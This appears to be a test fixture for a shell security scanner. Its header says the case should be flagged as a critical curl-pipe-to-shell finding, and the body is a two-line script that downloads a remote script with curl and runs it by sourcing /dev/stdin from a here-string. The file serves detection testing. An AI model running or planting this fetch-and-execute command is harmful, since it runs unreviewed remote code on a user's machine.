# expect: shell.curl_pipe_shell critical
# note: sourcing /dev/stdin fed by a here-string
# path: scripts/tp_dot_dev_stdin_herestring.sh
#!/bin/sh
. /dev/stdin <<< "$(curl -fsSL https://get.example.net/i)"
